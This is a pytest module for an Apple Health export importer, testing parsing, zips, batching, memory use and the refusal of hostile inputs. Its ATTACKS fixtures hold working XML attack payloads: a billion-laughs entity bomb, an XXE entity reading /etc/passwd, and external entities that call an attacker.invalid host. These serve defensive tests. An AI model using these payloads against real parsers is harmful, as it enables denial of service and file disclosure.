"""The Apple Health export provider: a sample export.xml with Apple's DOCTYPE (and one
with the broken DTD of export version 12) in tests/sources/files, zips built around it
here, read as streams into batches in the batch-ingest shape; XML that would attack a
parser refused; and memory that stays flat however big the export is.

Measured (this machine, Python 3.12, expat 2.5.0, 100,000 step records each with a
MetadataEntry, ~39 MB): about 150,000 records/s without tracemalloc (the
ElementTree-based parser before it: about 95,000), 18,000-25,000 under it; tracemalloc
peak about 2.7 MB. Run
`pytest tests/sources/test_apple_health.py -k "memory or throughput" -s` to see it again.
"""

import datetime as dt
import io
import re
import shutil
import time
import tracemalloc
import xml.etree.ElementTree as StdlibElementTree
import zipfile
from decimal import Decimal
from pathlib import Path

import defusedxml
import defusedxml.ElementTree
import pytest
from django.core.files import File
from django.utils import timezone
from pydantic import ValidationError

from measurements.models import Measurement
from measurements.orchestrators import prepare_rows
from measurements.units import convert
from sources.models import DataSource, RunStatus, SyncRun
from sources.orchestrators import sync
from sources.providers import Capability, PermanentError, Source, get
from sources.providers.apple_health import (
    BATCH_SIZE,
    ENTITIES,
    MAX_DEPTH,
    MAX_NAMES,
    MAX_TOKEN_BYTES,
    NOT_AN_EXPORT,
    RATIO_GRACE_BYTES,
    STREAMS,
    TOKEN_TOO_LONG,
    AppleHealthExport,
    AppleHealthSettings,
    iso_time,
    stable_id,
)
from tests.factories import MetricFactory

FILES = Path(__file__).parent / "files"
SAMPLE = FILES / "apple_health_export.xml"
SAMPLE_V12 = FILES / "apple_health_export_v12.xml"
EVERY_STREAM = {
    "body_mass": 1,
    "steps": 2,
    "walking_running_distance": 3,
    "active_energy": 4,
    "sleep": 5,
}
#: The metrics' own units, for `prepare_rows`.
UNITS = {1: "kg", 2: "steps", 3: "km", 4: "kcal", 5: "h"}
STEPS = STREAMS["steps"]
WATCH = "Anna\u2019s Apple Watch"
PHONE = "Anna\u2019s iPhone"


def source(metrics=None, **fields) -> Source:
    settings = AppleHealthSettings(metrics=metrics or EVERY_STREAM, **fields)
    return Source(id=1, settings=settings)


def batches(path: Path, metrics=None, **fields):
    with path.open("rb") as upload:
        return list(AppleHealthExport().parse(source(metrics, **fields), upload))


def items(path: Path, metrics=None, **fields) -> list[dict]:
    return [item for batch in batches(path, metrics, **fields) for item in batch.items]


def refusal(path: Path, metrics=None) -> str:
    with pytest.raises(PermanentError) as caught:
        batches(path, metrics)
    return str(caught.value)


def export_zip(path: Path, xml: bytes | Path, *, name="apple_health_export/export.xml", **kw):
    """An export.zip as the Health app makes it: export.xml beside the clinical
    export_cda.xml and workout routes."""
    data = xml.read_bytes() if isinstance(xml, Path) else xml
    folder = name.rsplit("/", 1)[0] + "/" if "/" in name else ""
    cda = name.rsplit("/", 1)[-1].replace(".xml", "_cda.xml")
    with zipfile.ZipFile(path, "w", kw.get("compression", zipfile.ZIP_DEFLATED)) as archive:
        archive.writestr(f"{folder}{cda}", b'<?xml version="1.0"?><ClinicalDocument/>' * 50)
        archive.writestr(name, data)
        archive.writestr(f"{folder}workout-routes/route_2026-11-20.gpx", b"<gpx/>")
    return path


def record(kind: str, value, start: str, *, unit="count", source_name="iPhone", end=None):
    return (
        f' <Record type="{kind}" sourceName="{source_name}" sourceVersion="18.1" '
        f'unit="{unit}" creationDate="{start}" startDate="{start}" '
        f'endDate="{end or start}" value="{value}"/>\n'
    )


def export(records: str, *, prolog: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"{prolog}"
        '<HealthData locale="en_US">\n'
        ' <ExportDate value="2026-11-21 09:30:12 +0100"/>\n'
        f"{records}"
        "</HealthData>\n"
    ).encode()


def steps_export(path: Path, count: int) -> Path:
    """An export of `count` step records (each with a MetadataEntry, as Apple writes
    many) and, every tenth, an unmapped heart rate record; written as it goes."""
    start = dt.datetime(2020, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    with path.open("w", encoding="utf-8") as out:
        out.write(SAMPLE.read_text(encoding="utf-8").split("<HealthData", 1)[0])
        out.write('<HealthData locale="en_US">\n')
        for number in range(count):
            moment = (start + dt.timedelta(minutes=10 * number)).strftime("%Y-%m-%d %H:%M:%S %z")
            out.write(
                f' <Record type="HKQuantityTypeIdentifierStepCount" sourceName="{PHONE}" '
                f'sourceVersion="18.1" device="&lt;&lt;HKDevice: 0x280a1b2d0&gt;, '
                f'name:iPhone&gt;" unit="count" creationDate="{moment}" '
                f'startDate="{moment}" endDate="{moment}" value="{number % 900 + 1}">\n'
                '  <MetadataEntry key="HKWasUserEntered" value="0"/>\n'
                " </Record>\n"
            )
            if number % 10 == 0:
                out.write(record("HKQuantityTypeIdentifierHeartRate", 61, moment, unit="count/min"))
        out.write("</HealthData>\n")
    return path


# The provider and its settings ------------------------------------------------------------


def test_it_is_registered_as_a_file_importer():
    provider = get("apple_health")
    assert isinstance(provider, AppleHealthExport)
    assert provider.label == "Apple Health export"
    assert provider.capabilities == Capability.FILE_IMPORT
    assert provider.settings_model is AppleHealthSettings


def test_settings_map_known_streams_to_metrics():
    settings = AppleHealthSettings(metrics={"steps": 4, "sleep": 2, "body_mass": 4})
    assert settings.metric_ids == [2, 4]
    assert settings.sources == []
    assert set(STREAMS) == set(EVERY_STREAM)


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        (
            {"metrics": {"steps": 1, "heart_rate": 2}},
            "“heart_rate” is not a stream of an Apple Health export; the streams are: "
            "body_mass, steps, walking_running_distance, active_energy, sleep.",
        ),
        ({"metrics": {"Steps": 1, "weight": 2}}, "“Steps”, “weight” are not streams"),
        ({"metrics": {}}, "at least 1 item"),
        ({"metrics": {"steps": "many"}}, "valid integer"),
        ({"metrics": {"steps": 1}, "metric_id": 1}, "Extra inputs are not permitted"),
    ],
)
def test_settings_refuse(fields, message):
    with pytest.raises(ValidationError) as caught:
        AppleHealthSettings.model_validate(fields)
    assert message in str(caught.value)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-20 07:01:00 +0100", "2026-11-20T07:01:00+01:00"),
        ("2026-11-21 07:15:00 -0500", "2026-11-21T07:15:00-05:00"),
        ("2026-11-20 07:01:00 +0000", "2026-11-20T07:01:00+00:00"),
        ("2026-11-20T07:01:00+05:30", "2026-11-20T07:01:00+05:30"),
        ("2026-11-20 07:01:00", None),
        ("yesterday", None),
        ("", None),
        (None, None),
    ],
)
def test_iso_time(text, expected):
    assert iso_time(text) == expected


# The sample export ----------------------------------------------------------------------------


def test_the_sample_has_apples_doctype_which_defusedxml_accepts_as_it_is():
    """Apple's internal subset declares elements and attributes, no entities: the
    parser's defences leave it alone."""
    head = SAMPLE.read_text(encoding="utf-8")[:200]
    assert "<!DOCTYPE HealthData [" in head
    assert defusedxml.ElementTree.parse(SAMPLE).getroot().tag == "HealthData"


def test_records_of_mapped_types_become_items():
    read = items(SAMPLE)
    assert [(i["metric_id"], i["value"], i["unit"], i["measured_at"], i["note"]) for i in read] == [
        (1, "81.4", "kg", "2026-11-20T07:01:00+01:00", "Health"),
        # The second of two identical records is handed on once.
        (1, "179.2", "lb", "2026-11-21T07:15:00-05:00", "Withings"),
        (2, "1032", "", "2026-11-20T08:09:14+01:00", PHONE),
        (2, "1011", "", "2026-11-20T08:09:02+01:00", WATCH),
        (3, "0.78312", "km", "2026-11-20T08:09:14+01:00", PHONE),
        (4, "41.25", "kcal", "2026-11-20T08:09:02+01:00", WATCH),
        (5, "2.5", "h", "2026-11-19T23:02:00+01:00", WATCH),
        (5, "0.758333", "h", "2026-11-20T01:32:00+01:00", WATCH),
        (5, "0.75", "h", "2026-11-20T02:25:00+01:00", WATCH),
        (5, "7.5", "h", "2021-03-01T23:00:00+01:00", "AutoSleep"),
        # Once, although the blood pressure correlation holds it too.
        (1, "81.2", "kg", "2026-11-20T07:04:00+01:00", "Withings"),
    ]
    assert all(
        set(item) == {"metric_id", "value", "unit", "measured_at", "note", "external_id"}
        for item in read
    )


def test_external_ids_derive_from_the_record():
    first = items(SAMPLE)[0]
    assert re.fullmatch(r"ah-[0-9a-f]{20}", first["external_id"])
    assert first["external_id"] == stable_id(
        "HKQuantityTypeIdentifierBodyMass",
        "2026-11-20 07:01:00 +0100",
        "2026-11-20 07:01:00 +0100",
        "81.4",
        "Health",
    )
    ids = [item["external_id"] for item in items(SAMPLE)]
    assert len(set(ids)) == len(ids)


def test_ids_are_stable_so_a_newer_export_adds_only_what_is_new(tmp_path):
    assert items(SAMPLE) == items(SAMPLE)
    newer = tmp_path / "export.xml"
    newer_record = record(
        "HKQuantityTypeIdentifierBodyMass", "80.9", "2026-11-22 07:00:00 +0100", unit="kg"
    )
    newer.write_text(
        SAMPLE.read_text(encoding="utf-8").replace("</HealthData>", newer_record + "</HealthData>"),
        encoding="utf-8",
    )
    before = {item["external_id"] for item in items(SAMPLE)}
    after = {item["external_id"]: item for item in items(newer)}
    assert before < after.keys()
    assert [after[key]["value"] for key in after.keys() - before] == ["80.9"]


def test_an_id_does_not_depend_on_the_metric_a_stream_feeds():
    assert [i["external_id"] for i in items(SAMPLE, {"steps": 2})] == [
        i["external_id"] for i in items(SAMPLE, {"steps": 9})
    ]


def test_unmapped_types_and_streams_are_skipped():
    read = items(SAMPLE, {"steps": 7})
    assert [(item["metric_id"], item["value"]) for item in read] == [(7, "1032"), (7, "1011")]
    assert items(SAMPLE, {"walking_running_distance": 3})[0]["value"] == "0.78312"


def test_sleep_counts_the_asleep_stages_in_hours_not_in_bed_or_awake():
    read = items(SAMPLE, {"sleep": 5})
    assert [(item["value"], item["unit"]) for item in read] == [
        ("2.5", "h"),  # core
        ("0.758333", "h"),  # deep, 01:32:00 to 02:17:30
        ("0.75", "h"),  # REM
        ("7.5", "h"),  # "Asleep", as written before iOS 16
    ]


def test_sleep_without_a_positive_span_is_skipped(tmp_path):
    kind = "HKCategoryTypeIdentifierSleepAnalysis"
    asleep = "HKCategoryValueSleepAnalysisAsleepCore"
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            record(kind, asleep, "2026-11-20 02:00:00 +0100", end="2026-11-20 01:00:00 +0100")
            + record(kind, asleep, "2026-11-20 02:00:00 +0100")
            + record(kind, asleep, "2026-02-30 02:00:00 +0100", end="2026-03-01 02:00:00 +0100")
            + record(kind, asleep, "2026-11-20 02:00:00 +0100", end="2026-11-20 02:00:20 +0100")
        )
    )
    assert [item["value"] for item in items(path, {"sleep": 5})] == ["0.005556"]


def test_only_the_chosen_sources_when_some_are_chosen():
    read = items(SAMPLE, {"steps": 2, "active_energy": 4}, sources=[WATCH])
    assert [(item["value"], item["note"]) for item in read] == [
        ("1011", WATCH),
        ("41.25", WATCH),
    ]


def test_every_item_passes_the_ingest_checks_and_converts_to_the_metrics_units():
    rows, refused = prepare_rows(items(SAMPLE), UNITS)
    assert refused == []
    by_unit = {row.values.original_unit: row.values for row in rows if row.values.original_unit}
    assert by_unit["lb"].value == Decimal("81.283753")
    assert rows[0].values.measured_at == dt.datetime(2026, 11, 20, 6, 1, tzinfo=dt.UTC)
    assert rows[2].values.value == Decimal("1032")


@pytest.mark.parametrize(
    ("apple", "metric_unit", "value", "expected"),
    [("Cal", "kJ", "1", "4.184"), ("st", "kg", "12.5", "79.378665"), ("mi", "km", "1", "1.609344")],
)
def test_apples_unit_names_are_ones_pint_converts(apple, metric_unit, value, expected, tmp_path):
    path = tmp_path / "export.xml"
    kind = {"Cal": "ActiveEnergyBurned", "st": "BodyMass", "mi": "DistanceWalkingRunning"}[apple]
    path.write_bytes(
        export(
            record(
                f"HKQuantityTypeIdentifier{kind}", value, "2026-11-20 07:00:00 +0100", unit=apple
            )
        )
    )
    (item,) = items(path)
    assert convert(Decimal(item["value"]), item["unit"], metric_unit).value == Decimal(expected)


def test_the_broken_dtd_of_export_version_12_is_read():
    """iOS 16 wrote an ATTLIST it never closed: the standard library refuses the file;
    the provider blanks the internal subset out, which nothing here needs."""
    with pytest.raises(StdlibElementTree.ParseError):
        StdlibElementTree.parse(SAMPLE_V12)
    read = items(SAMPLE_V12)
    assert [(item["value"], item["unit"]) for item in read] == [("912", ""), ("12.5", "stone")]


def test_control_characters_xml_forbids_are_dropped(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            record(
                "HKQuantityTypeIdentifierStepCount",
                5,
                "2026-11-20 07:00:00 +0100",
                source_name="Anna\x0bs\x1f iPhone",
            )
        )
    )
    assert [item["note"] for item in items(path)] == ["Annas iPhone"]


def test_a_byte_order_mark_and_no_doctype_are_fine(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(
        b"\xef\xbb\xbf"
        + export(record("HKQuantityTypeIdentifierStepCount", 5, "2026-11-20 07:00:00 +0100"))
    )
    assert [item["value"] for item in items(path)] == ["5"]


def test_an_export_without_mapped_records_gives_no_batches(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(export(""))
    assert batches(path) == []


# Zips ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("compression", [zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
def test_a_zip_is_read_like_its_export_xml(tmp_path, compression):
    path = export_zip(tmp_path / "export.zip", SAMPLE, compression=compression)
    read = batches(path)
    assert [item for batch in read for item in batch.items] == items(SAMPLE)
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("apple_health_export/export.xml").compress_size
    assert read[-1].progress == (size, size)


@pytest.mark.parametrize(
    "name",
    ["apple_health_export/exportar.xml", "export.xml", "Export/apple_health_export/Export.xml"],
)
def test_the_export_is_found_by_another_name_or_place(tmp_path, name):
    path = export_zip(tmp_path / "export.zip", SAMPLE, name=name)
    assert items(path) == items(SAMPLE)


def test_a_zip_without_an_export_is_refused(tmp_path):
    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("holiday/IMG_0001.jpg", b"\xff\xd8\xff")
        archive.writestr("holiday/export_cda.xml", b"<ClinicalDocument/>")
    assert "The zip holds no export.xml" in refusal(path)


def test_an_xml_file_that_is_not_an_export_is_refused(tmp_path):
    path = export_zip(tmp_path / "export.zip", b'<?xml version="1.0"?>\n<plist><dict/></plist>')
    assert refusal(path) == (
        "The XML file is not an Apple Health export: its root element is <plist>, not <HealthData>."
    )


def test_a_damaged_zip_is_refused(tmp_path):
    whole = export_zip(tmp_path / "export.zip", SAMPLE, compression=zipfile.ZIP_STORED)
    cut = tmp_path / "cut.zip"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    assert "The zip is damaged" in refusal(cut)
    # A changed digit keeps the XML well-formed: the checksum catches it at the end.
    flipped = tmp_path / "flipped.zip"
    flipped.write_bytes(whole.read_bytes().replace(b'value="81.4"', b'value="81.5"'))
    assert "The zip is damaged (Bad CRC-32" in refusal(flipped)
    garbage = tmp_path / "garbage.zip"
    garbage.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    assert "The zip is damaged" in refusal(garbage)


def test_an_encrypted_zip_is_refused(tmp_path):
    path = export_zip(tmp_path / "export.zip", SAMPLE)
    data = bytearray(path.read_bytes())
    # Set the "encrypted" flag of every entry, in its local and central headers.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            data[start + offset] |= 1
            start = data.find(signature, start + 4)
    path.write_bytes(bytes(data))
    assert refusal(path) == "The zip is encrypted; upload the export as it is."


# Files that are not exports, broken XML, and attacks --------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"   \n",
        b"\x89PNG\r\n\x1a\n\x00\x00",
        b"date,value\n2026-11-20,81.4\n",
        b"\x1f\x8b\x08",
    ],
)
def test_a_file_that_is_neither_zip_nor_xml_is_refused(tmp_path, content):
    path = tmp_path / "upload"
    path.write_bytes(content)
    assert refusal(path) == NOT_AN_EXPORT


@pytest.mark.parametrize(
    ("content", "where"),
    [
        (export(' <Record type="x" startDate="2026"></HealthData>\n'), "line 4,"),
        (export(' <Record type="x" value="1 < 2"/>\n'), "line 4"),
        (export(" <Record/>\n &nbsp;\n"), "line 5"),
    ],
)
def test_broken_xml_is_refused_with_where(tmp_path, content, where):
    path = tmp_path / "export.xml"
    path.write_bytes(content)
    message = refusal(path)
    assert message.startswith("The export's XML is broken at line ")
    assert where in message
    assert message.endswith("export again from the Health app.")


def test_a_truncated_export_names_its_last_line(tmp_path):
    path = tmp_path / "export.xml"
    content = SAMPLE.read_bytes()
    path.write_bytes(content[:-700])
    lines = content[:-700].count(b"\n") + 1
    assert f"broken at line {lines}," in refusal(path)


LAUGHS = """<!DOCTYPE HealthData [
 <!ELEMENT HealthData ANY>
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""
ATTACKS = {
    "billion laughs": (LAUGHS, "&lol9;"),
    "external entity": (
        '<!DOCTYPE HealthData [\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
        "&xxe;",
    ),
    "external parameter entity": (
        "<!DOCTYPE HealthData [\n"
        ' <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n %remote;\n]>\n',
        "x",
    ),
    "entity after Apple's declarations": (
        "<!DOCTYPE"
        + SAMPLE.read_text(encoding="utf-8").split("<!DOCTYPE", 1)[1].split("]>", 1)[0]
        + '<!ENTITY note "&#x26;#x26;">\n]>\n',
        "&note;",
    ),
}


def attack(path: Path, prolog: str, value: str) -> Path:
    path.write_bytes(
        export(
            record("HKQuantityTypeIdentifierStepCount", value, "2026-11-20 07:00:00 +0100"),
            prolog=prolog,
        )
    )
    return path


@pytest.mark.parametrize("name", ATTACKS)
def test_entity_declarations_are_refused(tmp_path, name):
    path = attack(tmp_path / "export.xml", *ATTACKS[name])
    assert refusal(path) == ENTITIES
    assert refusal(export_zip(tmp_path / "export.zip", path)) == ENTITIES


@pytest.mark.parametrize("name", ATTACKS)
def test_the_parser_refuses_entities_too_when_the_doctype_is_too_long_to_blank(tmp_path, name):
    """Past the first megabyte the DOCTYPE reaches the parser as it is, and the
    parser refuses the declarations, as defusedxml does."""
    prolog, value = ATTACKS[name]
    padded = prolog.replace("[\n", "[\n" + "<!-- pad -->\n" * 100_000, 1)
    path = attack(tmp_path / "export.xml", padded, value)
    with pytest.raises(defusedxml.DefusedXmlException):
        defusedxml.ElementTree.parse(path)
    assert refusal(path) == ENTITIES


def test_an_external_dtd_is_never_fetched(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("the parser tried to fetch something")

    monkeypatch.setattr("socket.socket.connect", no_network)
    monkeypatch.setattr("urllib.request.urlopen", no_network)
    path = attack(
        tmp_path / "export.xml", '<!DOCTYPE HealthData SYSTEM "http://attacker.invalid/x.dtd">\n', 7
    )
    assert [item["value"] for item in items(path)] == ["7"]


def test_elements_nested_too_deep_are_refused(tmp_path):
    """The parser keeps every open element: a file that nests without end (a few
    compressed megabytes can unpack to millions) is refused."""
    path = tmp_path / "export.xml"
    path.write_bytes(export(" <Workout>" + "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH + "</Workout>\n"))
    assert refusal(path) == (
        f"The export nests elements more than {MAX_DEPTH} deep; it is not an Apple Health "
        "export we can read."
    )


def test_a_file_of_ever_new_names_is_refused(tmp_path):
    """The parser keeps every name it has seen (2 million of them took 600 MB)."""
    path = tmp_path / "export.xml"
    elements = "".join(f'<e{number} a{number}="1"/>' for number in range(MAX_NAMES))
    path.write_bytes(export(f" <Workout>{elements}</Workout>\n"))
    assert refusal(path) == (
        f"The export uses more than {MAX_NAMES:,} different names of elements and "
        "attributes; it is not an Apple Health export we can read."
    )


@pytest.mark.parametrize(
    "token",
    [
        ' <Record type="x" value="' + "a" * 200_000 + '"/>\n',
        " <Record " + "a" * 200_000 + '="1"/>\n',
        " <Record>" + " " * 200_000 + "</Record>\n",
        " " * 200_000,
        " <!-- " + "c" * 200_000 + " -->\n",
    ],
    ids=["attribute value", "name", "text", "whitespace", "comment"],
)
def test_a_token_longer_than_the_cap_is_refused(tmp_path, token):
    path = tmp_path / "export.xml"
    path.write_bytes(export(record(STEPS, 1, "2026-11-20 07:00:00 +0100") + token))
    assert refusal(path) == TOKEN_TOO_LONG
    assert refusal(export_zip(tmp_path / "export.zip", path)) == TOKEN_TOO_LONG


def test_long_tokens_under_the_cap_are_read(tmp_path):
    note = "n" * (MAX_TOKEN_BYTES // 2)
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            f' <Record type="x" note="{note}"/>\n <Me>{note}</Me>\n'
            + record(STEPS, 1, "2026-11-20 07:00:00 +0100")
        )
    )
    assert [item["value"] for item in items(path)] == ["1"]


def test_a_zip_that_unpacks_past_the_ratio_is_refused_as_it_unpacks(tmp_path, settings):
    """Past its first megabytes an entry may unpack to at most the allowed multiple
    of what was read; the central directory's sizes are not trusted for it."""
    path = export_zip(tmp_path / "export.zip", steps_export(tmp_path / "export.xml", 60_000))
    with zipfile.ZipFile(path) as archive:
        entry = archive.getinfo("apple_health_export/export.xml")
    ratio = entry.file_size / entry.compress_size
    assert entry.file_size > RATIO_GRACE_BYTES
    settings.UPLOAD_MAX_COMPRESSION_RATIO = int(ratio) + 1
    assert sum(len(batch.items) for batch in batches(path, {"steps": 2})) == 60_000
    settings.UPLOAD_MAX_COMPRESSION_RATIO = int(ratio / 2)
    assert refusal(path, {"steps": 2}) == (
        f"The zip unpacks to more than {int(ratio / 2)} times its size, which no Apple "
        "Health export does; it is not one we can read."
    )


def test_an_export_larger_than_allowed_is_refused(tmp_path, settings):
    path = steps_export(tmp_path / "export.xml", 2000)
    settings.UPLOAD_MAX_UNPACKED_BYTES = 200 * 1024
    message = "The export.xml is larger than 200 KB, the most an import reads."
    assert refusal(path) == message
    assert refusal(export_zip(tmp_path / "export.zip", path)) == message


def test_a_zip_compressed_otherwise_than_apples_is_refused(tmp_path):
    path = export_zip(tmp_path / "export.zip", SAMPLE, compression=zipfile.ZIP_BZIP2)
    assert refusal(path) == (
        "The zip is compressed in a way that cannot be read safely; upload the export.zip "
        "as the Health app made it."
    )


def test_an_undeclared_entity_is_broken_xml(tmp_path):
    path = attack(tmp_path / "export.xml", "", "&lol9;")
    assert "undefined entity" in refusal(path)


# Batches, progress and memory -------------------------------------------------------------


@pytest.mark.parametrize("kind", ["xml", "zip"])
def test_batches_hold_batch_size_items_and_progress_counts_bytes(tmp_path, kind):
    """Read from a Django File, as the storage hands an upload over. (A zip's
    progress moves as its compressed bytes are read: see the next test.)"""
    path = steps_export(tmp_path / "export.xml", 4500)
    size = path.stat().st_size
    if kind == "zip":
        path = export_zip(tmp_path / "export.zip", path)
        with zipfile.ZipFile(path) as archive:
            size = archive.getinfo("apple_health_export/export.xml").compress_size
    with path.open("rb") as raw, File(raw, name="export.xml") as upload:
        read = list(AppleHealthExport().parse(source({"steps": 2}), upload))
    assert [len(batch.items) for batch in read] == [BATCH_SIZE, BATCH_SIZE, 500]
    done = [batch.progress[0] for batch in read]
    assert done == sorted(done) and 0 < done[0] <= size
    assert all(batch.progress[1] == size for batch in read)
    assert read[-1].progress == (size, size)
    if kind == "xml":
        assert done[0] < size


def test_progress_in_a_zip_counts_its_exports_compressed_bytes(tmp_path):
    path = export_zip(tmp_path / "export.zip", steps_export(tmp_path / "export.xml", 30_000))
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("apple_health_export/export.xml").compress_size
    read = batches(path, {"steps": 2})
    assert sum(len(batch.items) for batch in read) == 30_000
    done = [batch.progress[0] for batch in read]
    assert done == sorted(done) and 0 < done[0] < size
    assert [batch.progress[1] for batch in read] == [size] * len(read)
    assert read[-1].progress == (size, size)


def test_the_upload_stays_open_for_its_owner_even_when_reading_stops_early(tmp_path):
    for path in (
        steps_export(tmp_path / "export.xml", 4500),
        export_zip(tmp_path / "export.zip", tmp_path / "export.xml"),
    ):
        with path.open("rb") as upload:
            stream = AppleHealthExport().parse(source({"steps": 2}), upload)
            next(stream)
            stream.close()
            assert not upload.closed
            upload.seek(0)
            assert upload.read(2) in (b"<?", b"PK")


@pytest.mark.parametrize(("kind", "count"), [("xml", 300_000), ("zip", 100_000)])
def test_memory_stays_flat_over_a_big_export(tmp_path, kind, count):
    path = steps_export(tmp_path / "export.xml", count)
    if kind == "zip":
        target = tmp_path / "export.zip"
        with (
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive,
            path.open("rb") as xml,
            archive.open("apple_health_export/export.xml", "w") as out,
        ):
            shutil.copyfileobj(xml, out, 1 << 20)
        path.unlink()
        path = target
    tracemalloc.start()
    try:
        started = time.perf_counter()
        read = 0
        with path.open("rb") as upload:
            for batch in AppleHealthExport().parse(source({"steps": 2}), upload):
                read += len(batch.items)
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert read == count
    assert peak < 20 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"
    print(
        f"\n{kind}: {count:,} records ({path.stat().st_size / 1e6:.0f} MB) in {seconds:.1f} s "
        f"under tracemalloc: {count / seconds:,.0f} records/s, peak {peak / 1e6:.1f} MB"
    )


def test_throughput(tmp_path):
    """Not a benchmark: a note of the speed (see the module docstring), and a floor far
    below it that only a pathological slowdown breaks."""
    path = steps_export(tmp_path / "export.xml", 100_000)
    started = time.perf_counter()
    with path.open("rb") as upload:
        parsed = AppleHealthExport().parse(source({"steps": 2}), upload)
        read = sum(len(batch.items) for batch in parsed)
    seconds = time.perf_counter() - started
    print(f"\n{read:,} records in {seconds:.2f} s: {read / seconds:,.0f} records/s")
    assert read / seconds > 10_000


# Through the sync orchestrator, against the database ----------------------------------------


@pytest.mark.django_db
def test_importing_an_export_twice_creates_nothing_the_second_time(tmp_path):
    weight = MetricFactory(unit="kg")
    steps = MetricFactory(owner=weight.owner, unit="steps")
    sleep = MetricFactory(owner=weight.owner, unit="hours")
    data_source = DataSource.objects.create(
        owner=weight.owner,
        provider="apple_health",
        name="iPhone",
        settings={"metrics": {"body_mass": weight.id, "steps": steps.id, "sleep": sleep.id}},
        created=timezone.now(),
    )
    path = export_zip(tmp_path / "export.zip", SAMPLE)

    def run():
        run = SyncRun.objects.create(source=data_source, created=timezone.now(), upload="x.zip")
        result = sync(run.id, open_upload=lambda name: path.open("rb"))
        assert result.ok, result.error
        return SyncRun.objects.get(id=run.id)

    first = run()
    assert (first.status, first.created_count, first.rejected_count) == (RunStatus.SUCCEEDED, 9, 0)
    second = run()
    assert (second.created_count, second.updated_count, second.unchanged_count) == (0, 0, 9)
    assert Measurement.objects.filter(metric=weight).count() == 3
    stored = Measurement.objects.get(metric=weight, original_unit="lb")
    assert (stored.value, stored.original_value) == (Decimal("81.283753"), Decimal("179.2"))
    assert stored.measured_at == dt.datetime(2026, 11, 21, 12, 15, tzinfo=dt.UTC)
    assert sorted(Measurement.objects.filter(metric=sleep).values_list("value", flat=True)) == [
        Decimal("0.75"),
        Decimal("0.758333"),
        Decimal("2.5"),
        Decimal("7.5"),
    ]


@pytest.mark.django_db
def test_an_entity_bomb_fails_the_import_and_leaves_nothing(tmp_path):
    metric = MetricFactory(unit="steps")
    data_source = DataSource.objects.create(
        owner=metric.owner,
        provider="apple_health",
        name="iPhone",
        settings={"metrics": {"steps": metric.id}},
        created=timezone.now(),
    )
    path = attack(tmp_path / "export.xml", *ATTACKS["billion laughs"])
    run = SyncRun.objects.create(source=data_source, created=timezone.now(), upload="x.xml")
    result = sync(run.id, open_upload=lambda name: path.open("rb"))
    assert not result.ok
    assert result.error.message == ENTITIES
    assert SyncRun.objects.get(id=run.id).status == RunStatus.COMPENSATED
    assert not Measurement.objects.exists()


def test_reading_from_memory_works_too():
    upload = io.BytesIO(SAMPLE.read_bytes())
    assert [item for batch in AppleHealthExport().parse(source(), upload) for item in batch.items]
